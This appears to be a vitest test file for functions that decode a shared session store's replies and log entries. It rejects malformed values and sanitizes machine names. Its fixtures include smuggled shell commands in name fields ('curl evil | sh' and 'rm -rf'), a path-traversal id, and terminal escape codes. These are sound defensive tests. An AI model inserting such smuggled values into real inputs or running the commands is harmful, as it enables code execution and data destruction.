import { describe, expect, it } from 'vitest';
import {
  decodeSharedLogEntry,
  decodeSharedSessionOperationResult,
} from '../../src/shared-store/decode-shared-session.ts';
import { listMachinesWithUnreportedRefresh } from '../../src/shared-store/shared-session.ts';

const session = { epoch: 1_790_000_000, sid: 'aabb', gen: 3, kid: '00000001', active_kid: '00000001', record: 'AAAA' };
const reply = (changes: object = {}) => ({
  applied: true,
  now_ms: 1_790_000_000_000,
  session: { ...session, ...changes },
});

describe('the reply of a store', () => {
  it('has numbers or text, and no row for a profile without a session', () => {
    const asText = Object.fromEntries(Object.entries(session).map(([name, value]) => [name, String(value)]));
    expect(decodeSharedSessionOperationResult(reply(asText))).toEqual(decodeSharedSessionOperationResult(reply()));
    expect(decodeSharedSessionOperationResult({ ...reply(), session: null })).toMatchObject({ row: undefined });
  });

  it.each([
    ['no object', 'text'],
    ['no time', { ...reply(), now_ms: undefined }],
    ['a time after the year 9999', { ...reply(), now_ms: 9_000_000_000_000_000 }],
    ['a text instead of a truth value', { ...reply(), applied: '1' }],
    ['a row that is a list', { ...reply(), session: [] }],
    ['a negative generation', reply({ gen: -1 })],
    ['a generation that is no integer', reply({ gen: 1.5 })],
    ['an epoch beyond the exact numbers', reply({ epoch: '9223372036854775807' })],
    ['no record', reply({ record: undefined })],
    ['a key id with control characters', reply({ kid: '\u001b]0;x\u0007' })],
    ['a session id that is a path', reply({ sid: '../../x' })],
    ['a very long key id', reply({ kid: 'a'.repeat(1_000_000) })],
  ])('%s is not a reply', (_name, value) => {
    expect(decodeSharedSessionOperationResult(value)).toBeUndefined();
  });

  it('names of machines have only characters that the program uses for names', () => {
    const row = decodeSharedSessionOperationResult(
      reply({
        holder: 'ci-1`; curl evil | sh`#a\u001b[2J',
        intent_gen: 3,
        intent_by: 'ci-2#b\nrun `rm -rf`',
        previous_by: Array.from({ length: 1000 }, (_, at) => `ci-${at}${'x'.repeat(200)}`).join(','),
      }),
    )?.row;
    expect(row?.holder).toBe('ci-1---curl-evil---sh-#a--2J');
    const names = row === undefined ? [] : listMachinesWithUnreportedRefresh(row);
    expect(names.length).toBeLessThanOrEqual(51);
    expect(names.join(' ')).toMatch(/^[A-Za-z0-9._# -]+$/);
    expect(names.every((name) => name.length <= 100)).toBe(true);
  });

  it('a time that no date can contain is left out, so that no date of it is printed', () => {
    const row = decodeSharedSessionOperationResult(
      reply({ intent_ms: 8_999_999_999_999_999, lease_ms: '999999999999999' }),
    )?.row;
    expect(row).toMatchObject({ intentMs: undefined, leaseMs: undefined });
  });
});

describe('an entry of the log', () => {
  const entry = { at_ms: 1_790_000_000_000, event: 'refresh', by: 'ci-1#a', epoch: 1, gen: 2 };

  it('has a time, an event, a machine and a version', () => {
    expect(decodeSharedLogEntry(entry)).toEqual({
      atMs: entry.at_ms,
      event: 'refresh',
      by: 'ci-1#a',
      epoch: 1,
      gen: 2,
    });
  });

  it.each([{ at_ms: 8_999_999_999_999_999 }, { event: 'a b' }, { event: '\u001b[2J' }, { gen: -1 }, { by: undefined }])(
    '%j is not an entry',
    (changes) => {
      expect(decodeSharedLogEntry({ ...entry, ...changes })).toBeUndefined();
    },
  );

  it('the name of its machine has only characters that the program uses for names', () => {
    expect(decodeSharedLogEntry({ ...entry, by: '\u001b[31mci\u0007' })?.by).toBe('--31mci-');
  });
});
